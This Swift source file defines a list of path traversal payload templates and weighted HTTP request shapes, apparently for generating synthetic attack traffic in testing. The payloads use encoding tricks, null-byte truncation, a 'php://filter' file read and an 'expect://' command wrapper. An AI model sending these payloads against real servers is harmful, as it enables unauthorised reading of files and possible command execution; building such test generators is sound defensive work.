/// Out of the folder and into files, with the encodings that decoders have fallen for.
enum PathTraversal {
    static let payloads = Template.list(
        "../../../../{file}", "..\\..\\..\\..\\{file}", "....//....//....//{file}",
        "..%2f..%2f..%2f{file}", "%2e%2e/%2e%2e/%2e%2e/{file}", "..%252f..%252f..%252f{file}",
        "..%c0%af..%c0%af{file}", "/{file}", "../../../../../../{file}%00",
        "../../../{file}%00.jpg",
        "file:///{file}", "..;/..;/..;/{file}", "./../../../{file}", "/var/www/../../{file}",
        "php://filter/convert.base64-encode/resource={file}", "..%5c..%5c..%5c{file}",
        "/%5c../%5c../%5c../{file}", "{slug}/../../../../{file}", "..././..././..././{file}",
        "C:\\{file}", "%uff0e%uff0e/%uff0e%uff0e/{file}", "expect://{command}", "/./././././{file}")

    static let shapes = [
        RequestShape("GET", "/download", query: "file={payload}&lang={language}", weight: 4),
        RequestShape("GET", "/download", query: "file={payload}", weight: 3),
        RequestShape("GET", "/static/{payload}", weight: 3),
        RequestShape("GET", "/static/img/{payload}", weight: 2),
        RequestShape("GET", "/{language}/{payload}", weight: 1),
        RequestShape("GET", "/media/{hash}/{payload}", query: "w={number}"),
        RequestShape("GET", "/", query: "page={payload}", weight: 2),
        RequestShape("GET", "/help/shipping", query: "template={payload}&city={city}"),
        RequestShape("POST", "/account/avatar", form: "path={payload}&csrf={token}"),
        RequestShape(
            "POST", "/api/v1/export", json: #"{"template":"{payload}","orders":[{number}]}"#),
    ]
}
